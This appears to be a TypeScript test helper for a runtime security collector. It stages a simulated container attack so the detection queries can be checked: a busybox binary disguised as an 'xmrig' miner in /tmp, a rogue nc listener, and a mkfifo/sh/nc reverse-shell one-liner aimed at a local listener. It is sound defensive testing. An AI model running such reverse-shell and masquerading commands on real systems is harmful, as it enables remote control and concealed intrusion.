/**
 * A real collector run for the provisioned-query check: the collector's CLI with real eBPF
 * (bpftrace), the Podman runtime source and the auth-log source, sending to a Loki. A Podman
 * container in a pod's namespace learns its model (a loop and a listener), then is attacked from
 * inside: a miner run from /tmp (killed by a prevent policy), a new listener, a reverse shell to a
 * host-side listener. On the host, a real sshd login runs sudo (test/host/auth-lab.ts). The
 * collector is stopped once all of it is in Loki, so what the queries see is final.
 *
 * What a machine lacks is an error naming what to install, never a skip.
 */
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { nowNs, nsToMs, type CasefileEvent } from '@casefile/schema';
import { LokiClient } from '../../server/src/loki/loki-client';
import { spawnCollector, until, type CollectorProcess } from '../../collector/test/helpers';
import { freePort, type Loki } from '../loki/loki-server';
import { podmanUnavailableReason, setupPodman, type Podman } from '../containers/podman';
import { AuthLab, authLabUnavailable } from '../host/auth-lab';

/** Progress on stderr, so a slow step shows where the time went. */
const step = (what: string) => console.error(`# ${new Date().toISOString()} ${what}`);

export interface RealRun {
  /** The collector's host name (host_name). */
  host: string;
  containerId: string;
  containerName: string;
  namespace: string;
  pod: string;
  /** Epoch ms: before the collector started, after it stopped. */
  startMs: number;
  endMs: number;
  /** The container's events and the host's login and sudo events, as Loki holds them. */
  events: CasefileEvent[];
}

/** Why the run cannot happen here, or null. */
export function realRunUnavailable(): string | null {
  if (process.getuid?.() !== 0) return 'needs root (eBPF, Podman, sshd)';
  if (!existsSync('/usr/bin/bpftrace')) return 'bpftrace is missing (scripts/setup-machine.sh installs it)';
  return podmanUnavailableReason() ?? authLabUnavailable();
}

/** Audits the attack must raise, by severity: every provisioned severity rule has something to fire on. */
const WANTED: Record<string, (e: CasefileEvent) => boolean> = {
  'critical audit (miner or reverse shell)': (e) => e.type === 'runtime.audit' && e.severity === 'critical',
  'high audit (exec from /tmp)': (e) => e.type === 'runtime.audit' && e.severity === 'high',
  'medium audit (new listener)': (e) => e.type === 'runtime.audit' && e.severity === 'medium',
  'the miner killed (runtime.action)': (e) => e.type === 'runtime.action' && e.action === 'prevent',
  'outbound connection': (e) => e.type === 'network.connect',
  'listening port': (e) => e.type === 'port.listen',
  'model learned': (e) => e.type === 'model.learned',
  'exec into the container': (e) => e.type === 'container.exec',
  'ssh login': (e) => e.type === 'host.login',
  sudo: (e) => e.type === 'host.activity',
};

/** Run the scenario against `loki`; resolves once its events are final there. */
export async function realRun(loki: Loki): Promise<RealRun> {
  const unavailable = realRunUnavailable();
  if (unavailable) throw new Error(`the provisioned-query check needs a real collector run: ${unavailable}`);
  const startMs = Date.now();
  const dir = mkdtempSync(join(tmpdir(), 'casefile-provisioning-run-'));
  const tag = `${process.pid}`;
  const host = `prov-${tag}`;
  const containerName = `prov-shop-${tag}`;
  const namespace = `prov-ns-${tag}`;
  const pod = `prov-pod-${tag}-0`;
  const lab = new AuthLab();
  let pm: Podman | undefined;
  let col: CollectorProcess | undefined;
  let shells: Server | undefined;
  let events: CasefileEvent[] = [];
  try {
    lab.prepare();
    [pm] = await Promise.all([setupPodman(), lab.start()]);
    const socket = await pm.startService();
    step('provisioning run: podman and the auth lab up');
    // Reverse shells and outbound connections reach this; it tells each shell to exit.
    shells = createServer((s: Socket) => {
      s.on('error', () => undefined);
      s.write('exit\n');
      setTimeout(() => s.destroy(), 2000).unref();
    });
    await new Promise<void>((r) => shells!.listen(0, '127.0.0.1', r));
    const shellPort = (shells.address() as { port: number }).port;
    const [servicePort, attackPort] = [await freePort(), await freePort()];
    writeFileSync(
      join(dir, 'policy.yaml'),
      `scopes:\n  - match: { containerName: "${containerName}" }\n    actions: { crypto_miner: prevent }\n`
    );
    col = spawnCollector([
      ...['--otlp-endpoint', `${loki.url}/otlp`, '--state-dir', join(dir, 'state')],
      ...['--runtime-socket', socket, '--sources', 'ebpf,runtime,host', '--auth-log', lab.authLog],
      ...['--host-name', host, '--listen', '127.0.0.1:0', '--learning-period', '6s'],
      ...['--policy', join(dir, 'policy.yaml')],
    ]);
    const addr = await until('collector serving', () => col!.address, 60_000);
    await until(
      'eBPF and runtime sources active',
      async () => {
        const h = (await (await fetch(`http://${addr}/healthz`)).json()) as {
          sources?: Record<string, string>;
        };
        return h.sources?.ebpf === 'active' && h.sources?.runtime === 'active';
      },
      90_000
    );
    step('provisioning run: collector active; the service learns');

    const client = new LokiClient({ url: loki.url });
    const window = () => ({
      fromNs: String(BigInt(nowNs()) - 3_600_000_000_000n),
      toNs: String(BigInt(nowNs()) + 60_000_000_000n),
    });
    const containerId = await pm.run(
      ['/bin/sh', '-c', `/bin/nc -l -p ${servicePort} & while true; do /bin/sleep 1; done`],
      {
        name: containerName,
        network: 'host',
        labels: { 'io.kubernetes.pod.namespace': namespace, 'io.kubernetes.pod.name': pod },
      }
    );
    const read = async () => [
      ...(await client.readAll({ scope: { host, containerId } }, window())),
      ...(await client.readAll({ scope: { host }, types: ['host.login', 'host.activity'] }, window())),
    ];
    await until(
      'the image model active',
      async () => {
        const evs = await read();
        const model = evs.find((e) => e.type === 'model.learned')?.modelId;
        const states = model
          ? await client.readAll({ scope: { host }, types: ['model.state'] }, window())
          : [];
        return states.some((e) => e.modelId === model && e.modelState === 'active') || undefined;
      },
      120_000,
      1000
    );
    await new Promise((r) => setTimeout(r, 2000)); // a few loop turns after learning: no audit

    step('provisioning run: the attack');
    const sh = (script: string) =>
      pm!.exec(containerId, ['/bin/sh', '-c', script]).catch((e: Error) => e.message);
    await sh('/bin/ln -sf /bin/busybox /tmp/xmrig; exec -a sleep /tmp/xmrig 20');
    await sh(`/bin/nc -l -p ${attackPort} & p=$!; /bin/sleep 1; kill $p`);
    await sh(
      `/bin/rm -f /tmp/f; /bin/mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | /bin/nc 127.0.0.1 ${shellPort} > /tmp/f; true`
    );
    const login = lab.sshKey(lab.user.name, [lab.userKey], 'sudo -n /usr/bin/id');
    if (login.code !== 0) throw new Error(`ssh login with sudo failed: ${login.out}`);

    await until(
      'the attack, the login and sudo in Loki',
      async () => {
        events = await read();
        const missing = Object.entries(WANTED).filter(([, f]) => !events.some(f));
        return missing.length === 0 || undefined;
      },
      90_000,
      1000
    );
    // The collector drains its queue on SIGTERM: after it exits, Loki holds everything it saw.
    col.child.kill('SIGTERM');
    await Promise.race([col.exited, new Promise((r) => setTimeout(r, 20_000))]);
    events = await read();
    step(`provisioning run: ${events.length} events in ${Date.now() - startMs} ms`);
    return { host, containerId, containerName, namespace, pod, startMs, endMs: Date.now(), events };
  } catch (err) {
    const missing = Object.entries(WANTED)
      .filter(([, f]) => !events.some(f))
      .map(([k]) => k);
    (err as Error).message +=
      `\n--- ${events.length} events so far; missing: ${missing.join(', ') || 'nothing'}` +
      `\n--- collector stderr (tail) ---\n${col?.stderr().slice(-3000) ?? ''}`;
    throw err;
  } finally {
    if (col && col.child.exitCode === null) {
      col.child.kill('SIGTERM');
      await Promise.race([col.exited, new Promise((r) => setTimeout(r, 15_000))]);
      if (col.child.exitCode === null) col.child.kill('SIGKILL');
    }
    shells?.close();
    await pm?.cleanup();
    await lab.stop();
    rmSync(dir, { recursive: true, force: true });
  }
}

/** Epoch ms of an event. */
export const eventMs = (e: CasefileEvent) => nsToMs(e.timeNs);
